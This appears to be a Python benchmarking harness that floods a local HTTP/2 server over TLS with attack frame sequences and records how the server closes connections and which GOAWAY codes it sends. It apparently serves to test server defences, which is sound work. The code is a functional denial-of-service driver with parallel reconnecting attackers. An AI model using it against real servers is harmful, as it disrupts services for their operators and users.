"""An attacker over HTTP/2 and TLS: `attack.py OPTIONS`, one JSON object:

  port, kind, path, large_path    whom, with what (frames.py), and the objects that requests name
  parallel, connections, seconds  attackers at once, each on a connection of its own; how many connections they make in
                                  all, and for how long, whichever is reached first
  repeats_max                     repetitions after which a connection that the server has not closed is given up
  batch, pause_ms                 0: as fast as the socket takes it. Else so many repetitions, then a pause in which the
                                  server may close: the count of frames is then exact to a batch.

Whoever is shut out comes again at once. Everything is built before the first connection, so one process sends millions
of frames a second.

Prints one JSON object: connections; frames, those sent until the closing was seen, over all connections; closed, how many
connections the server ended; codes, the error codes of its GOAWAY frames with their counts (7540's numbers, "none" where the
connection ended without one); texts, what they said in clear; last_streams, the sum of the streams they named as served.
"""

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

from frames import ACK, ATTACKS, DATA, FRAME_HEAD_BYTES, GOAWAY, HEADERS, PREFACE, SETTINGS, Attack, Target, frame

_FLOOD_BATCH_BYTES = 16 * 1024
_CONNECTION_BYTES_MAX = 8 * 1024 * 1024
# A server that reads nothing for so long has stopped the attack, too.
_STALL_SECONDS = 2.0
# How long the last answers may take to come.
_END_SECONDS = 1.0
_ENHANCE_YOUR_CALM = 0xB


class Plan:
    """The bytes of one connection, in pieces of a batch."""

    def __init__(self, options: dict) -> None:
        attack: Attack = ATTACKS[options["kind"]]
        target = Target(b"bench.test", options["path"].encode(), options["large_path"].encode())
        self.first = PREFACE + frame(SETTINGS, 0, 0, attack.settings) + frame(SETTINGS, ACK, 0, b"")
        self.first += attack.begin(target)
        self.first_frames = attack.frames_first
        # Bytes and frames of each batch.
        self.batches: list[tuple[bytes, int]] = []
        piece, count, total = [], 0, 0
        for number in range(options["repeats_max"]):
            block = attack.repeat(target, number)
            piece.append(block)
            count, total = count + len(block), total + len(block)
            if len(piece) == options["batch"] or (not options["batch"] and count >= _FLOOD_BATCH_BYTES):
                self.batches.append((b"".join(piece), len(piece) * attack.frames_each))
                piece, count = [], 0
            if total > _CONNECTION_BYTES_MAX or not attack.frames_each:
                break
        self.batches.append((b"".join(piece), len(piece) * attack.frames_each))
        self.pause_seconds = options["pause_ms"] / 1000


class Connection:
    def __init__(self, context: ssl.SSLContext, port: int) -> None:
        plain = socket.create_connection(("127.0.0.1", port), timeout=10)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._socket = context.wrap_socket(plain, server_hostname="bench.test")
        if self._socket.selected_alpn_protocol() != "h2":
            sys.exit("the server does not speak HTTP/2")
        self._socket.setblocking(False)
        self._poll = select.poll()
        self._poll.register(self._socket, select.POLLIN)
        self._received = bytearray()
        self.frames = 0
        self.is_closed = False
        self.answers_ended = 0
        self.code: int | None = None
        self.text = ""
        self.last_stream = 0

    def send(self, block: bytes) -> None:
        """Until all of it is on its way, or the server has closed."""
        deadline = time.monotonic() + _STALL_SECONDS
        while block and not self.is_closed:
            try:
                block = block[self._socket.send(block):]
                continue
            except ssl.SSLWantWriteError:
                wanted = select.POLLIN | select.POLLOUT
            except ssl.SSLWantReadError:
                wanted = select.POLLIN
            except OSError:
                wanted = select.POLLIN
                self.read()
                self.is_closed = True
                return
            if time.monotonic() > deadline:
                raise TimeoutError
            self._poll.modify(self._socket, wanted)
            self._poll.poll(100)
            self._poll.modify(self._socket, select.POLLIN)
            self.read()

    def read(self) -> None:
        """Takes what has come."""
        while not self.is_closed:
            try:
                block = self._socket.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                block = b""
            self.is_closed = not block
            self._received += block
        self._understand()

    def wait(self, seconds: float) -> None:
        """Reads for so long, or until the server closes."""
        deadline = time.monotonic() + seconds
        while not self.is_closed and (left := deadline - time.monotonic()) > 0:
            if self._socket.pending() or self._poll.poll(left * 1000):
                self.read()

    def _understand(self) -> None:
        at = 0
        while len(self._received) - at >= FRAME_HEAD_BYTES:
            length = int.from_bytes(self._received[at:at + 3], "big")
            kind, flags = self._received[at + 3], self._received[at + 4]
            payload = at + FRAME_HEAD_BYTES
            if len(self._received) < payload + length:
                break
            if kind in (DATA, HEADERS) and flags & 1:
                self.answers_ended += 1
            if kind == GOAWAY:
                self.last_stream, self.code = struct.unpack_from(">II", self._received, payload)
                self.text = self._received[payload + 8:payload + length].decode("latin-1")
                # Said with the highest number there is, it is a warning, and the end comes later.
                self.is_closed = self.last_stream != 0x7FFFFFFF or self.is_closed
            at = payload + length
        del self._received[:at]

    def close(self) -> None:
        self._socket.close()


class Attackers:
    """All of them, and what came of it."""

    def __init__(self, options: dict) -> None:
        self._options = options
        self._plan = Plan(options)
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._context.check_hostname = False
        self._context.verify_mode = ssl.CERT_NONE
        self._context.minimum_version = ssl.TLSVersion.TLSv1_3
        self._context.set_alpn_protocols(["h2"])
        self._lock = threading.Lock()
        self._begun = 0
        self.report = {"connections": 0, "frames": 0, "closed": 0, "stalled": 0, "codes": {}, "texts": {}, "last_streams": 0}

    def run(self) -> dict:
        start = time.monotonic()
        self._end = start + self._options["seconds"]
        threads = [threading.Thread(target=self._attack, daemon=True) for _ in range(self._options["parallel"])]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return self.report | {"seconds": time.monotonic() - start}

    def _attack(self) -> None:
        while time.monotonic() < self._end:
            with self._lock:
                if self._begun >= self._options["connections"]:
                    return
                self._begun += 1
            try:
                connection = Connection(self._context, self._options["port"])
            except OSError:
                # Shut out before it could begin.
                continue
            is_stalled = False
            try:
                self._send_all(connection)
            except TimeoutError:
                is_stalled = True
            connection.close()
            self._note(connection, is_stalled)

    def _send_all(self, connection: Connection) -> None:
        plan = self._plan
        connection.send(plan.first)
        connection.frames += plan.first_frames
        for block, count in plan.batches:
            connection.read()
            if connection.is_closed or time.monotonic() > self._end:
                return
            connection.send(block)
            connection.frames += count
            if plan.pause_seconds:
                connection.wait(plan.pause_seconds)
        end = time.monotonic() + _END_SECONDS
        while self._options["kind"] == "none" and not connection.answers_ended and time.monotonic() < end:
            connection.wait(0.001)
        if self._options["kind"] != "none":
            connection.wait(_END_SECONDS if plan.pause_seconds else 0.05)

    def _note(self, connection: Connection, is_stalled: bool) -> None:
        with self._lock:
            report = self.report
            report["connections"] += 1
            report["frames"] += connection.frames
            report["closed"] += connection.is_closed
            report["stalled"] += is_stalled
            report["last_streams"] += connection.last_stream
            if connection.is_closed:
                code = "none" if connection.code is None else str(connection.code)
                report["codes"][code] = report["codes"].get(code, 0) + 1
            if connection.text:
                report["texts"][connection.text] = report["texts"].get(connection.text, 0) + 1


def main() -> None:
    json.dump(Attackers(json.loads(sys.argv[1])).run(), sys.stdout)


if __name__ == "__main__":
    main()
